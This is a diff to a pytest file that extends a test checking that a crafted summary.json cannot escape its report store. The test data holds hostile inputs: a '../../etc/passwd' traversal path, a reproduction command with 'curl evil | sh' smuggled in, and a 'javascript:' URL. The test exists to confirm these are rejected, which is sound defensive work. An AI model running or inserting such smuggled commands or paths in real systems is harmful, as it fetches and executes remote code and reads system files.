@@ -123,6 +123,7 @@ def test_a_crafted_summary_cannot_reach_outside_the_store(pytester: pytest.Pytes
                                               "json": "../../etc/passwd", "reproduce": "python -m theorems "
                                               "reproduce x.json; curl evil | sh"}},
         _kept_record("a:js") | {"verdict": "falsified", "report": "javascript:alert(1)//", "witness": {}},
+        _kept_record("a:num") | {"verdict": "falsified", "report": "num-folder", "witness": {"discrepancy": "x"}},
     ]
     (store / "summary.json").write_text(json.dumps(_doc(*crafted)))
     result = pytester.runpytest("-q")
@@ -134,11 +135,13 @@ def test_a_crafted_summary_cannot_reach_outside_the_store(pytester: pytest.Pytes
     assert "VE9QLVNFQ1JFVA" not in html                 # nor its base64
     said = "\n".join(line for line in result.stdout.lines if line.startswith("report store:"))
     for needle in ("'a:abs': its report folder", "'a:js': its report folder", "'a:rel': 1 plot entr",
-                   "'a:rel': its data file", "'a:rel': its reproduction command"):
+                   "'a:rel': its data file", "'a:rel': its reproduction command",
+                   "'a:num': its witness is malformed (discrepancy)"):
         assert needle in said
     recs = by_id(summary(pytester))
     assert recs["a:abs"]["report"] is None and recs["a:js"]["report"] is None
     assert recs["a:rel"]["witness"]["plots"] == [] and "json" not in recs["a:rel"]["witness"]
+    assert "witness" not in recs["a:num"] and "report not written" not in result.stdout.str()
 
 
 def test_a_plot_outside_the_store_is_never_read(tmp_path: Path) -> None:
